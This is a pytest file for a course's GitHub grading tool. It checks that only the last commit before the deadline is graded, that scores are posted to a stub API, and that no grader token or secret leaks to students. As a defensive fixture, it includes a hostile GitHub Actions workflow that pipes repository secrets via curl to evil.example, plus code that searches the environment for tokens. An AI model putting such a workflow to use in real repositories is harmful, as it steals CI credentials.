"""Teacher-side GitHub grading, end to end (issue 21): local bare repositories stand in for the students'
GitHub repositories, a stub server for GitHub's REST API.

The course's ``grade-of-record`` clones each repository at its last commit before the deadline, grades the
class, and posts each score (a commit status on the graded commit, a comment on the grade issue).  One
student pushes a fix after the deadline (not graded); one repository carries a hostile workflow that would
print every secret it is given and code that looks for tokens: nothing of the grader, its token or its
secret reaches any student's repository, and the student template holds no secret at all.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml

from deploy.github import grade_of_record as gor
from deploy.github import template as gh_template

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "examples" / "submissions"
TOKEN = "course-token-" + "4" * 30
SECRET = "grader-secret-" + "8" * 30
DEADLINE = "2026-12-18T23:59:00Z"
BEFORE, AFTER = "2026-12-18T20:00:00+00:00", "2026-12-19T09:00:00+00:00"
HOSTILE_WORKFLOW = """name: steal
on: [push]
jobs:
  steal:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ secrets.MICROGRAD_COURSE_TOKEN }} ${{ secrets.MICROGRAD_GRADER_SECRET }}" | curl -d @- evil.example
"""
SNOOP = """
import os as _os
_STOLEN = {k: v for k, v in _os.environ.items() if k in ("MICROGRAD_COURSE_TOKEN", "MICROGRAD_GRADER_SECRET")
           or "course-token" in v or "grader-secret" in v}
assert not _STOLEN, _STOLEN  # a token in the sandbox's environment would fail every part
"""


class GitHubStub(BaseHTTPRequestHandler):
    """Statuses, issues and comments, recorded; nothing else exists."""

    calls: list[dict] = []
    issues: dict[str, list[dict]] = {}

    def _answer(self, status: int, body) -> None:
        data = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def _record(self, body) -> None:
        self.calls.append({"method": self.command, "path": self.path, "body": body,
                           "authorization": self.headers.get("Authorization")})

    def do_GET(self):
        self._record(None)
        repository = "/".join(self.path.split("/")[2:4])
        self._answer(200, self.issues.get(repository, []))

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self._record(body)
        parts = self.path.split("/")
        repository = "/".join(parts[2:4])
        if parts[4] == "issues" and len(parts) == 5:
            issue = {"number": len(self.issues.get(repository, [])) + 1, "title": body["title"]}
            self.issues.setdefault(repository, []).append(issue)
            return self._answer(201, issue)
        self._answer(201, {})

    def log_message(self, *args) -> None:
        pass


def git(*args: str, cwd: Path, when: str | None = None) -> str:
    env = {**os.environ, "GIT_AUTHOR_NAME": "s", "GIT_AUTHOR_EMAIL": "s@example.org", "GIT_COMMITTER_NAME": "s",
           "GIT_COMMITTER_EMAIL": "s@example.org"}
    if when:
        env.update(GIT_AUTHOR_DATE=when, GIT_COMMITTER_DATE=when)
    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True).stdout.strip()


def student_repository(root: Path, name: str, commits: list[tuple[Path, str, str]]) -> tuple[Path, list[str]]:
    """A bare repository ORG/<name>.git with each (folder of files, message, time) as a commit."""
    work = root / "work" / name
    work.mkdir(parents=True)
    git("init", "-q", "-b", "main", cwd=work)
    shas = []
    for files, message, when in commits:
        for path in list(work.iterdir()):
            if path.name != ".git":
                shutil.rmtree(path) if path.is_dir() else path.unlink()
        shutil.copytree(files, work, dirs_exist_ok=True)
        git("add", "-A", cwd=work)
        git("commit", "-q", "-m", message, cwd=work, when=when)
        shas.append(git("rev-parse", "HEAD", cwd=work))
    bare = root / "ORG" / f"micrograd-{name}.git"
    bare.parent.mkdir(exist_ok=True)
    git("clone", "-q", "--bare", str(work), str(bare), cwd=root)
    return bare, shas


def refs(bare: Path) -> str:
    return git("for-each-ref", "--format=%(objectname) %(refname)", cwd=bare)


@pytest.fixture
def course(tmp_path):
    hostile = tmp_path / "hostile-files"
    shutil.copytree(EXAMPLES / "relu_bug", hostile)
    (hostile / ".github" / "workflows").mkdir(parents=True)
    (hostile / ".github" / "workflows" / "steal.yml").write_text(HOSTILE_WORKFLOW)
    engine = hostile / "micrograd_skeleton" / "engine.py"
    engine.write_text(engine.read_text() + SNOOP)
    repositories = {
        "ada": student_repository(tmp_path, "ada", [(EXAMPLES / "correct", "solution", BEFORE)]),
        "bob": student_repository(tmp_path, "bob", [(EXAMPLES / "relu_bug", "relu bug", BEFORE),
                                                    (EXAMPLES / "correct", "late fix", AFTER)]),
        "eve": student_repository(tmp_path, "eve", [(hostile, "mine", BEFORE)]),
    }
    roster = tmp_path / "roster.csv"
    roster.write_text("student,repository\n" + "".join(f"{s},ORG/micrograd-{s}\n" for s in repositories)
                      + "zed,ORG/micrograd-zed\n")
    GitHubStub.calls, GitHubStub.issues = [], {}
    server = ThreadingHTTPServer(("127.0.0.1", 0), GitHubStub)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield {"root": tmp_path, "roster": roster, "repositories": repositories,
           "api": f"http://127.0.0.1:{server.server_address[1]}"}
    server.shutdown()


def grade_of_record(course: dict, out: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "MICROGRAD_COURSE_TOKEN": TOKEN, "MICROGRAD_GRADER_SECRET": SECRET}
    return subprocess.run(
        [sys.executable, "-m", "deploy.github", "grade-of-record", "--roster", str(course["roster"]), "--deadline",
         DEADLINE, "--out", str(out), "--clone-url", f"file://{course['root']}/{{repository}}.git", "--api",
         course["api"], "--jobs", "2"], cwd=ROOT, env=env, capture_output=True, text=True, timeout=600)


def test_the_course_grades_the_last_commit_before_the_deadline_and_posts_it_back(course):
    before = {name: refs(bare) for name, (bare, _) in course["repositories"].items()}
    out = course["root"] / "out"
    done = grade_of_record(course, out)
    assert done.returncode == 0, done.stderr[-3000:]
    assert "zed: not graded: could not clone ORG/micrograd-zed" in done.stderr

    statuses = {c["path"].split("/")[3]: c for c in GitHubStub.calls if "/statuses/" in c["path"]}
    shas = {name: shas for name, (_, shas) in course["repositories"].items()}
    assert statuses["micrograd-ada"]["path"].endswith(shas["ada"][0])
    assert statuses["micrograd-ada"]["body"] == {"state": "success", "context": "micrograd/grade",
                                                 "description": "micrograd: 100/100 points"}
    assert statuses["micrograd-bob"]["path"].endswith(shas["bob"][0]), "the commit after the deadline is not graded"
    assert statuses["micrograd-bob"]["body"]["state"] == "failure"
    bob = json.loads((out / "grades" / "bob" / "result.json").read_text())
    assert bob["parts"]["relu"]["score"] == 0 and f"{bob['score']:g}/100" in statuses["micrograd-bob"]["body"][
        "description"]
    eve = json.loads((out / "grades" / "eve" / "result.json").read_text())
    assert eve["parts"]["add"]["score"] == eve["parts"]["add"]["max_score"], "no token in the sandbox's environment"

    comments = {c["path"].split("/")[3]: c["body"]["body"] for c in GitHubStub.calls if c["path"].endswith("/comments")}
    assert set(comments) == {"micrograd-ada", "micrograd-bob", "micrograd-eve"}
    assert shas["bob"][0] in comments["micrograd-bob"] and "you assigned `out.backward = ...`" in comments["micrograd-bob"]
    assert (out / "grades" / "class-report.html").is_file()
    assert (out / "graded-commits.csv").read_text().count("\n") == 5

    # Nothing of the grader reaches a student: the token only in the Authorization header, no secret, no
    # reference code in anything posted, nothing pushed, no token left in a clone.
    assert all(c["authorization"] == f"Bearer {TOKEN}" for c in GitHubStub.calls)
    posted = json.dumps([c["body"] for c in GitHubStub.calls])
    assert TOKEN not in posted and SECRET not in posted
    sys.path.insert(0, str(ROOT / "tools"))
    from build_student_wheel import leaks

    assert leaks({"posted": "\n".join(comments.values())}) == []
    assert {name: refs(bare) for name, (bare, _) in course["repositories"].items()} == before
    for path in out.rglob("*"):
        if path.is_file():
            assert TOKEN.encode() not in path.read_bytes(), path

    # Run again (a re-grade): the same issue gets a second comment, no second issue.
    assert grade_of_record(course, out).returncode == 0
    assert all(len(issues) == 1 for issues in GitHubStub.issues.values())
    assert sum(c["path"].endswith("/comments") for c in GitHubStub.calls) == 6


def test_the_student_template_holds_no_secret_and_the_course_workflow_does(tmp_path):
    template = gh_template.write_template(tmp_path / "template")
    workflow_text = (template / ".github/workflows/micrograd.yml").read_text()
    workflow = yaml.safe_load(workflow_text)
    assert set(workflow["jobs"]) == {"public-checks"}
    everything = "\n".join(p.read_text(errors="replace") for p in template.rglob("*") if p.is_file())
    assert "secrets." not in everything and "MICROGRAD_GRADER" not in everything and "vars." not in everything
    course = yaml.safe_load(gor.course_workflow(gor.parse_deadline(DEADLINE), assignment="value_engine"))
    steps = course["jobs"]["grade"]["steps"]
    run = next(s for s in steps if "grade-of-record" in s.get("run", ""))
    assert run["env"]["MICROGRAD_COURSE_TOKEN"] == "${{ secrets.MICROGRAD_COURSE_TOKEN }}"
    assert "--assignment value_engine" in run["run"]
    assert course[True]["schedule"] == [{"cron": "59 23 18 12 *"}]  # YAML reads the key `on` as True
